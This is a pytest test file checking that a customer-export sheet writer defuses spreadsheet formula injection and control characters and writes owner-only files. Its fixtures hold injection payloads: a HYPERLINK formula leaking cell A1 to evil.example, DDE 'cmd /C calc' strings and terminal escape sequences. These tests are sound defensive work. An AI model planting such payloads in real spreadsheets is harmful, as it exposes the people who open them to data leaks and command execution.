"""Every sheet the program writes goes through one writer (db.sheets.SheetWriter): no cell
starts a formula, no control character crashes a .xlsx or reaches a CSV raw, a failure
leaves no file, and files are readable by their owner only. The written files are opened
with openpyxl and csv, as a spreadsheet or a campaign tool would."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import stat

import pytest
from openpyxl import load_workbook

from db import privacy
from db.export import export
from db.importer import run_import
from db.models import Customer
from db.sheets import SheetWriter
from tests.manager_fixtures import advisor, contact, customer, vehicle
from tests.test_importer import HEADER, good_rows, write_csv

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "home_address": "+cmd|' /C calc'!A0",
    "employer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hobbies": "-2+3+cmd|' /C calc'!A0",
    "occupation": "\t=1+1",
    "interests": "保养\x1b[2J\x01\u202e",
}


def csv_rows(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def xlsx_cells(path):
    book = load_workbook(path)  # not read-only: each cell's data type is known
    return [cell for row in book.worksheets[0].iter_rows() for cell in row]


def assert_safe_text(values) -> None:
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
            assert "\x1b" not in value and "\x01" not in value and "\u202e" not in value, value


def mode_of(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def out(tmp_path):
    """A folder for the written files, under a umask that lets everyone read (as on many
    machines): the files must be 0600 all the same."""
    folder = tmp_path / "out"
    folder.mkdir()
    old = os.umask(0o022)
    yield folder
    os.umask(old)


@pytest.fixture
def hostile(database):
    """A customer whose values pass the validators as formulas, and a note with control
    characters written past them."""
    manager = advisor("经理甲", role="manager")
    who = customer("李雷", "13912345678")
    Customer.update(**HOSTILE).where(Customer.id == who.id).execute()
    vehicle(who)
    contact(who, manager, dt.datetime(2026, 10, 3, 10), note="=cmd|'/C calc'!A0\x07")
    return manager, Customer.get_by_id(who.id)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_own_copy_sheets_hold_no_formula_and_no_control_character(hostile, out, fmt):
    manager, who = hostile
    path = out / f"own.{fmt}"
    privacy.export_customer(manager.id, who.id, path)
    if fmt == "csv":
        values = [v for row in csv_rows(path) for v in row]
    else:
        cells = xlsx_cells(path)
        assert "f" not in {c.data_type for c in cells}  # never a live formula
        values = [c.value for c in cells]
    assert_safe_text(values)
    assert "'" + HOSTILE["name"] in values and "'" + HOSTILE["home_address"] in values
    assert "'" + HOSTILE["employer"] in values and "'" + HOSTILE["hobbies"] in values
    assert "'\t=1+1" in values
    assert "保养\\x1b[2J\\x01\\u202e" in values  # visible, not dropped
    assert mode_of(path) == 0o600
    assert sorted(p.name for p in out.iterdir()) == [f"own.{fmt}"]  # no temporary left


def test_own_copy_json_keeps_values_exact_with_escapes(hostile, out):
    manager, who = hostile
    path = out / "own.json"
    privacy.export_customer(manager.id, who.id, path)
    text = path.read_text(encoding="utf-8")
    assert "\x1b" not in text and "\u202e" not in text and "\\u202e" in text
    data = json.loads(text)
    assert data["observation"]["interests"] == HOSTILE["interests"]  # exact for a program
    assert mode_of(path) == 0o600


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_campaign_export_over_a_stored_control_character(hostile, out, fmt):
    """openpyxl raised IllegalCharacterError on the \x01 and left a partial file."""
    manager, who = hostile
    Customer.update(name="李\x01雷\x1b]0;x\x07").where(Customer.id == who.id).execute()
    path = out / f"list.{fmt}"
    result = export(path, unmasked=True, advisor_id=manager.id)
    assert result.rows == 1
    values = ([v for row in csv_rows(path) for v in row] if fmt == "csv"
              else [c.value for c in xlsx_cells(path)])
    assert "李\\x01雷\\x1b]0;x\\x07" in values
    assert_safe_text(values)
    assert mode_of(path) == 0o600
    assert sorted(p.name for p in out.iterdir()) == [path.name]


def test_a_failed_sheet_leaves_no_file_and_keeps_the_old_one(tmp_path):
    path = tmp_path / "list.xlsx"
    path.write_bytes(b"the old list")
    with pytest.raises(RuntimeError):
        with SheetWriter(path, ["a"]) as sheet:
            sheet.write(["x"])
            raise RuntimeError("disk gone")
    assert path.read_bytes() == b"the old list"
    with pytest.raises(FileExistsError):
        SheetWriter(path, ["a"], overwrite=False)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["list.xlsx"]


def test_rejects_list_neutralises_formulas_and_shows_control_characters(database, out):
    header = [*HEADER[:-1], "备注\x1b]0;pwned\x07"]
    bad = ["=HYPERLINK(\"http://x\")", "123", "", "", "", "", "", "", "", "@SUM(1)", "\x1b[2J"]
    path = out / "sales.csv"
    write_csv(path, header, good_rows(1) + [bad])
    result = run_import(path, mapping={header[-1]: "-"})
    assert result.rejected == 1
    rows = csv_rows(result.rejects_path)
    assert rows[0][-1] == "备注\\x1b]0;pwned\\x07"
    assert "'=HYPERLINK(\"http://x\")" in rows[1] and rows[1][-2] == "'@SUM(1)" and rows[1][-1] == "\\x1b[2J"
    assert_safe_text(v for row in rows for v in row)
    assert mode_of(result.rejects_path) == 0o600
